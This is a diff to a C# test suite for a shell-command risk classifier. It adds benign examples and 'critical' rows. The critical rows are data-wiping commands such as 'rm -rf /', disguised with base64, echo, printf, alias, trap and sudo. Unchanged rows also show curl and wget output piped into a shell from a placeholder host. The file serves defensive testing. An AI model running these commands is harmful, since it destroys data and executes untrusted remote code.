@@ -110,7 +110,10 @@ public sealed class CommandClassificationTableTests
         "ls \\\n  -la",
         "sort -u words.txt > words.sorted",
         "cp -r templates/ build/templates/",
-        "ln -s ../shared shared-link");
+        "ln -s ../shared shared-link",
+        "echo 'hello world' | sh -c 'cat'",
+        "alias ll='ls -la'",
+        "trap 'rm -f build/tmp.lock' EXIT");
 
     public static TheoryData<string, string, string[]> Dangerous() => Rows(
         // ---- recursive delete of / and ~, written many ways
@@ -301,6 +304,12 @@ public sealed class CommandClassificationTableTests
         ("sh <(wget -qO- https://x)", "critical", [Pipe]),
         ("source <(curl -s https://x)", "critical", [Pipe]),
         ("curl https://x | env bash", "critical", [Pipe]),
+        ("echo cm0gLXJmIC8K | base64 -d | sh", "critical", ["AP-RISK-DECODE-TO-SHELL"]),
+        ("echo 'rm -rf /' | sh", "critical", [RmRoot]),
+        ("printf 'cd /tmp\\nrm -rf /\\n' | bash", "critical", [RmRoot]),
+        ("echo -e 'rm -rf ~' | sudo bash -s", "critical", [RmRoot, Priv]),
+        ("alias ll='rm -rf /'; ll", "critical", [RmRoot]),
+        ("trap 'rm -rf /' EXIT", "critical", [RmRoot]),
 
         // ---- privilege escalation
         ("sudo apt-get install -y jq", "high", [Priv]),
